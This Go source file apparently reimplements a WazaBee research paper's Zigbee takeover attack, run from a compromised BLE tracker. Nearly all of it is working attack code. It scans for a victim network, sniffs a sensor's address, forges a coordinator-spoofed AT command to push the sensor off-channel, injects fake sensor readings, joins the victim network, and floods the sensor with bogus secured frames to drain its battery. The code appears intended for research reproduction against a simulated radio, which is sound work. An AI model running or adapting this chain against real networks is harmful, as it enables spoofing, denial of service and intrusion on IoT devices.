// Package attack implements the two end-to-end attack scenarios of the
// paper on top of the WazaBee primitives: scenario A (injecting 802.15.4
// frames from an unrooted smartphone through the extended-advertising
// API) and scenario B (the four-step Zigbee takeover from a compromised
// BLE tracker).
package attack

import (
	"errors"
	"fmt"

	"wazabee/internal/core"
	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/zigbee"
)

// Air is the attacker's radio environment: transmit a waveform on an
// 802.15.4 channel and capture the reaction, or listen passively.
// zigbee.Simulation satisfies it.
type Air interface {
	// Exchange transmits sig on the channel and returns the capture of
	// the first victim reply (noise when nothing answers).
	Exchange(sig dsp.IQ, channel int) (dsp.IQ, error)
	// Capture listens on the channel for one victim activity period.
	Capture(channel int) (dsp.IQ, error)
}

// ErrScanFailed is returned when no coordinator answered on any channel.
var ErrScanFailed = errors.New("attack: active scan found no network")

// ErrNoSensorTraffic is returned when eavesdropping saw no sensor data.
var ErrNoSensorTraffic = errors.New("attack: no sensor traffic observed")

// NetworkInfo is what the active scan recovers about the victim network.
type NetworkInfo struct {
	Channel     int
	PAN         uint16
	Coordinator uint16
}

// Tracker is the scenario B attacker: a compromised BLE wearable running
// the WazaBee primitives (on the nRF51822 that means ESB 2M instead of LE
// 2M, with degraded but sufficient reception).
type Tracker struct {
	TX  *core.Transmitter
	RX  *core.Receiver
	Air Air

	// Flight receives one event per attack step (scan, eavesdrop,
	// channel change, spoofed reading, join): info when the step
	// succeeds, warn when scan or eavesdrop finds nothing. nil falls
	// back to the process default recorder.
	Flight *obs.Flight

	seq uint8
}

// NewTracker wires the attack state machine to its radio primitives.
func NewTracker(tx *core.Transmitter, rx *core.Receiver, air Air) (*Tracker, error) {
	if tx == nil || rx == nil || air == nil {
		return nil, fmt.Errorf("attack: nil transmitter, receiver or air")
	}
	return &Tracker{TX: tx, RX: rx, Air: air}, nil
}

// record reports one attack step to the tracker's flight recorder.
func (t *Tracker) record(lv obs.Level, kind, detail string, kv ...any) {
	obs.OrFlight(t.Flight).Record(obs.FlightEvent{
		Level: lv, Kind: kind, Component: "attack", Frame: -1, Detail: detail, Fields: obs.Fields(kv...),
	})
}

// sendFrame modulates a MAC frame with the WazaBee transmitter and
// exchanges it on the channel, returning the decoded reply (nil when
// nothing decodable came back).
func (t *Tracker) sendFrame(frame *ieee802154.MACFrame, channel int) (*ieee802154.MACFrame, error) {
	psdu, err := frame.Encode()
	if err != nil {
		return nil, err
	}
	sig, err := t.TX.ModulatePSDU(psdu)
	if err != nil {
		return nil, err
	}
	capture, err := t.Air.Exchange(sig, channel)
	if err != nil {
		return nil, err
	}
	return t.decode(capture), nil
}

// decode runs the WazaBee reception primitive over a capture and parses
// the MAC frame, returning nil when nothing decodes cleanly.
func (t *Tracker) decode(capture dsp.IQ) *ieee802154.MACFrame {
	dem, err := t.RX.Receive(capture)
	if err != nil {
		return nil
	}
	frame, err := ieee802154.ParseMACFrame(dem.PPDU.PSDU)
	if err != nil {
		return nil
	}
	return frame
}

// ActiveScan is step 1: broadcast a beacon request on each candidate
// channel and wait for a coordinator's beacon; the first answer yields
// the channel, PAN ID and coordinator address.
func (t *Tracker) ActiveScan(channels []int) (*NetworkInfo, error) {
	for _, ch := range channels {
		t.seq++
		reply, err := t.sendFrame(ieee802154.NewBeaconRequest(t.seq), ch)
		if err != nil {
			return nil, err
		}
		if reply == nil || reply.Type != ieee802154.FrameBeacon {
			continue
		}
		info := &NetworkInfo{Channel: ch, PAN: reply.SrcPAN, Coordinator: reply.SrcAddr}
		t.record(obs.LevelInfo, "scan", "active scan found network",
			"channel", ch, "pan", fmt.Sprintf("%#04x", info.PAN),
			"coordinator", fmt.Sprintf("%#04x", info.Coordinator))
		return info, nil
	}
	t.record(obs.LevelWarn, "scan", "active scan found no network", "channels", len(channels))
	return nil, ErrScanFailed
}

// Eavesdrop is step 2: sniff the network channel until a data frame
// destined to the coordinator reveals the sensor's address.
func (t *Tracker) Eavesdrop(info *NetworkInfo, maxPeriods int) (uint16, error) {
	if info == nil {
		return 0, fmt.Errorf("attack: nil network info")
	}
	for i := 0; i < maxPeriods; i++ {
		capture, err := t.Air.Capture(info.Channel)
		if err != nil {
			return 0, err
		}
		frame := t.decode(capture)
		if frame == nil || frame.Type != ieee802154.FrameData {
			continue
		}
		if frame.DestPAN == info.PAN && frame.DestAddr == info.Coordinator {
			t.record(obs.LevelInfo, "eavesdrop", "eavesdrop identified sensor",
				"sensor", fmt.Sprintf("%#04x", frame.SrcAddr), "periods", i+1)
			return frame.SrcAddr, nil
		}
	}
	t.record(obs.LevelWarn, "eavesdrop", "eavesdrop saw no sensor traffic", "periods", maxPeriods)
	return 0, ErrNoSensorTraffic
}

// InjectChannelChange is step 3: forge a remote AT command, spoofing the
// coordinator as source, that moves the sensor to newChannel (a denial of
// service against the sensor-coordinator link [28]). The sensor's AT
// response confirms the takeover.
func (t *Tracker) InjectChannelChange(info *NetworkInfo, sensor uint16, newChannel int) error {
	if info == nil {
		return fmt.Errorf("attack: nil network info")
	}
	if newChannel < ieee802154.FirstChannel || newChannel > ieee802154.LastChannel {
		return fmt.Errorf("attack: channel %d out of range", newChannel)
	}
	t.seq++
	cmd := &zigbee.ATCommand{FrameID: t.seq, Command: "CH", Param: []byte{byte(newChannel)}}
	payload, err := cmd.Encode()
	if err != nil {
		return err
	}
	frame := ieee802154.NewDataFrame(t.seq, info.PAN, sensor, info.Coordinator, payload, false)
	reply, err := t.sendFrame(frame, info.Channel)
	if err != nil {
		return err
	}
	if reply == nil {
		return fmt.Errorf("attack: no AT response from sensor %#04x", sensor)
	}
	resp, err := zigbee.ParseATResponse(reply.Payload)
	if err != nil {
		return fmt.Errorf("attack: unexpected reply to AT command: %w", err)
	}
	if resp.Status != 0 {
		return fmt.Errorf("attack: sensor rejected channel change (status %d)", resp.Status)
	}
	t.record(obs.LevelInfo, "channel-change", "sensor moved off-channel",
		"sensor", fmt.Sprintf("%#04x", sensor), "new_channel", newChannel)
	return nil
}

// SpoofData is step 4: transmit a fake reading, mimicking the silenced
// sensor, and verify the coordinator acknowledged it.
func (t *Tracker) SpoofData(info *NetworkInfo, sensor uint16, value uint16) error {
	if info == nil {
		return fmt.Errorf("attack: nil network info")
	}
	t.seq++
	frame := ieee802154.NewDataFrame(t.seq, info.PAN, info.Coordinator, sensor, zigbee.SensorPayload(value), true)
	reply, err := t.sendFrame(frame, info.Channel)
	if err != nil {
		return err
	}
	if reply == nil || reply.Type != ieee802154.FrameAck || reply.Seq != t.seq {
		return fmt.Errorf("attack: coordinator did not acknowledge spoofed reading")
	}
	t.record(obs.LevelInfo, "spoof", "spoofed reading acknowledged", "value", value)
	return nil
}

// JoinNetwork associates the attacker with the victim PAN as if it were
// a legitimate device, obtaining a short address from the coordinator —
// network infiltration built from the same two primitives. It fails when
// the coordinator does not permit joining.
func (t *Tracker) JoinNetwork(info *NetworkInfo) (uint16, error) {
	if info == nil {
		return 0, fmt.Errorf("attack: nil network info")
	}
	t.seq++
	req := ieee802154.NewAssociationRequest(t.seq, info.PAN, info.Coordinator, 0x8e)
	reply, err := t.sendFrame(req, info.Channel)
	if err != nil {
		return 0, err
	}
	if reply == nil || reply.Type != ieee802154.FrameCommand {
		return 0, fmt.Errorf("attack: no association response")
	}
	assigned, status, err := ieee802154.ParseAssociationResponse(reply.Payload)
	if err != nil {
		return 0, err
	}
	if status != ieee802154.AssocStatusSuccess {
		return 0, fmt.Errorf("attack: association denied (status %d)", status)
	}
	t.record(obs.LevelInfo, "join", "joined victim network",
		"assigned", fmt.Sprintf("%#04x", assigned))
	return assigned, nil
}

// AppendDepletionPayload appends the i-th garbage payload of the
// depletion flood to dst: 18 bytes sized and tagged to pass for a
// secured application frame, so the victim spends the full receive (and
// CCM* verification) budget before discarding it. Shared by the tracker
// and the campaign engine's energy-depletion scenarios, which build it
// into a reused frame's payload storage.
func AppendDepletionPayload(dst []byte, i int) []byte {
	return append(dst, 0x05, byte(i), byte(i>>8), 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0xde, 0xad, 0x00, 0x00, 0x00, 0x00, 0x00)
}

// DepleteEnergy floods the sensor with garbage frames addressed to it —
// the Ghost-in-ZigBee energy-depletion denial of service the paper cites
// ([30]) as remaining possible even on cryptographically secured
// networks: each bogus frame forces the victim to spend receive (and,
// when secured, CCM* verification) energy before it can be discarded.
func (t *Tracker) DepleteEnergy(info *NetworkInfo, sensor uint16, frames int) error {
	if info == nil {
		return fmt.Errorf("attack: nil network info")
	}
	if frames < 1 {
		return fmt.Errorf("attack: frame count %d < 1", frames)
	}
	for i := 0; i < frames; i++ {
		t.seq++
		// Looks secured, fails authentication: maximum victim cost.
		frame := ieee802154.NewDataFrame(t.seq, info.PAN, sensor, info.Coordinator,
			AppendDepletionPayload(nil, i), false)
		frame.Security = true
		if _, err := t.sendFrame(frame, info.Channel); err != nil {
			return err
		}
	}
	return nil
}

// Run executes the full four-step scenario B attack: scan, eavesdrop,
// move the sensor off-channel, then feed the display with fake readings.
func (t *Tracker) Run(scanChannels []int, dosChannel int, fakeValues []uint16) (*NetworkInfo, error) {
	info, err := t.ActiveScan(scanChannels)
	if err != nil {
		return nil, err
	}
	sensor, err := t.Eavesdrop(info, 10)
	if err != nil {
		return info, err
	}
	if err := t.InjectChannelChange(info, sensor, dosChannel); err != nil {
		return info, err
	}
	for _, v := range fakeValues {
		if err := t.SpoofData(info, sensor, v); err != nil {
			return info, err
		}
	}
	return info, nil
}
